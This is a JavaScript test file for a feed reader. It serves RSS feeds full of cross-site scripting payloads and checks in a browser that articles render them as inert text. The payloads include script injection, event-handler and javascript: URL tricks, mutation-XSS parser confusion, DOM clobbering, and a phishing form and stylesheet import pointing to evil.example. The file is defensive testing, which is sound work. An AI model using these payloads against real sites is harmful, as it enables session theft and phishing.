// Attacks in feeds: whatever a feed contains, pages show it as text and harmless markup.

import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import { closeBrowser, startServer, person, rss, until, with_ } from './harness.mjs';

const N = 'window.__xss=1';
const VECTORS = [
  `<script>${N}</script>`,
  `<scr<script>ipt>${N}</scr</script>ipt>`,
  `<img src=x onerror=${N}>`,
  `<img/src=x/OnErRoR=${N}>`,
  `<img """><script>${N}</script>">`,
  `<a href="javascript:${N}">click</a>`,
  `<a href=" &#14; JaVaScRiPt:${N}">click</a>`,
  `<a href="java&#9;script:${N}">click</a>`,
  `<a href="java&#10;script&colon;${N}">click</a>`,
  `<a href="data:text/html,<script>${N}</script>">click</a>`,
  `<svg onload=${N}>`,
  `<svg><script>${N}</script></svg>`,
  `<svg><a><set attributeName="href" to="javascript:${N}"></set><text y="30">x</text></a></svg>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${N}>">`,
  `<math><annotation-xml encoding="text/html"><iframe/src=javascript:${N}></annotation-xml></math>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${N}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${N}>`,
  `<noscript><p title="</noscript><img src=x onerror=${N}>">`,
  `<textarea><p title="</textarea><img src=x onerror=${N}>">`,
  `<title><p title="</title><img src=x onerror=${N}>">`,
  `<plaintext><img src=x onerror=${N}>`,
  `<iframe src="javascript:${N}"></iframe>`,
  `<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>`,
  `<object data="javascript:${N}"></object><embed src="javascript:${N}">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${N}"><base href="http://evil.example/">`,
  `<style>@import 'http://evil.example/x.css';body{display:none}</style>`,
  `<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:99999">overlay</div>`,
  `<form action="http://evil.example/phish" method=post><input name=password><button formaction="javascript:${N}">Log in</button></form>`,
  `<input autofocus onfocus=${N}><details open ontoggle=${N}>x</details>`,
  `<video><source onerror=${N}></video><audio src=x onerror=${N} autoplay></audio>`,
  `<body onload=${N}><marquee onstart=${N}>x</marquee>`,
  `<div id="script" class="frame" data-list data-act="read"><form data-act="star" action="/sign-out" method="post"><button data-key="j">clobber</button></form><a id=keys><a id=toast name=token>x</a></div>`,
  `<!--[if gte IE 4]><script>${N}</script><![endif]--><![CDATA[<script>${N}</script>]]>`,
  `<template><script>${N}</script></template><custom-el onclick=${N} is=x>x</custom-el>`,
  `<p title=x&#12;onmouseover=${N}>form feed as space</p><img src=x alt="\`onerror=${N}//\`">`,
  `{{constructor.constructor('${N}')()}} \${7*7}</div></article></main></body></html><h1>escaped the container</h1>`,
  `&lt;script&gt;${N}&lt;/script&gt; &amp;lt;script&amp;gt;${N}&amp;lt;/script&amp;gt;`,
  `<a href="https://ok.example/">the link survives</a> <b>bold</b> <pre><code>&lt;script&gt;</code></pre>`,
];
const EVIL = `"><script>${N}</script><img src=x onerror=${N}>`;

let tidings;
before(async () => {
  tidings = await startServer({
    users: [{ name: 'ada', isOperator: true, follows: ['/bodies.xml', '/fields.xml'] }],
    feeds: {
      '/bodies.xml': base => rss('Bodies', VECTORS.map((html, at) => ({ title: `vector ${at}`, html, minutes: at + 1 })), base),
      '/fields.xml': base => rss(EVIL, [{ title: EVIL, guid: EVIL, html: EVIL, link: `javascript:${N}`, minutes: 100, extra: `<author>${EVIL.replace(/[<>"&]/g, s => `&#${s.charCodeAt(0)};`)}</author><category>&#60;script&#62;${N}&#60;/script&#62;</category><comments>javascript:${N}</comments><enclosure url="javascript:${N}" type="audio/mpeg" length="1"/>` }], base),
    },
  });
});
after(async () => { await tidings.close(); await closeBrowser(); });

/** Hovers over, focuses and clicks everything in the article. External links are not followed. */
function provoke() {
  const stop = event => { if (/^https?:/.test(event.target.closest?.('a')?.href ?? '') || event.type === 'submit') event.preventDefault(); };
  document.addEventListener('click', stop);
  document.addEventListener('submit', stop, true);
  for (const one of document.querySelectorAll('main.page .content *')) {
    for (const type of ['mouseover', 'mouseenter', 'focus', 'pointerdown']) one.dispatchEvent(new Event(type, { bubbles: true }));
    one.focus?.();
    one.click?.();
  }
  document.activeElement?.blur();
  document.removeEventListener('click', stop);
  document.removeEventListener('submit', stop, true);
  return window.__xss;
}

test('attacks in bodies and fields run no script and cause no requests', { timeout: 1_800_000 }, async () => {
  const someone = await person(tidings.base, { name: 'ada' });
  // Images in articles may be loaded from other hosts; here they are blocked.
  await someone.context.route(url => url.host !== new URL(tidings.base).host, route => route.abort());
  await with_(someone, 'hostile', async ({ page, at, faults }) => {
    await at('/all');
    assert.equal(await page.evaluate(() => window.__xss), undefined);
    await page.keyboard.press('j');
    await page.keyboard.press('o');
    for (let n = 0; n <= VECTORS.length; n++) {
      // A title with markup is shown as its text.
      const expected = n < VECTORS.length ? `vector ${n}` : '">';
      const heading = () => page.locator('main.page .article h1').first().textContent({ timeout: 1000 }).catch(() => '');
      await until(async () => (n < VECTORS.length ? await heading() === expected : (await heading()).startsWith(expected)), expected);
      assert.equal(await page.evaluate(provoke), undefined, expected);
      assert.equal(await page.locator('main.page script, main.page iframe[srcdoc], main.page object, main.page embed, main.page base, main.page .content form, main.page .content [style]').count(), 0, expected);
      assert.match(page.url(), /\/article\//, `still on the page: ${expected}`);
      await page.keyboard.press('j');
    }
    await at('/all');
    await page.locator('.card', { hasText: 'vector 37' }).locator('h2 a').click();
    await page.waitForSelector('main.page .content a[href="https://ok.example/"]');
    assert.equal(await page.locator('main.page .content b, main.page .content pre code').count(), 2);
    for (const path of ['/sources', '/activity', '/admin', '/offline', '/search?q=script', '/sources/export.opml']) {
      await page.goto(tidings.base + path).catch(() => {});
      assert.equal(await page.evaluate(() => window.__xss).catch(() => undefined), undefined, path);
    }
    // Images and audio of articles may be requested from other hosts, and are missing here; nothing else may.
    const grave = faults.filter(fault => !/\((image|media)\)$|Failed to load resource/.test(fault));
    faults.length = 0;
    assert.deepEqual(grave, []);
  });
});
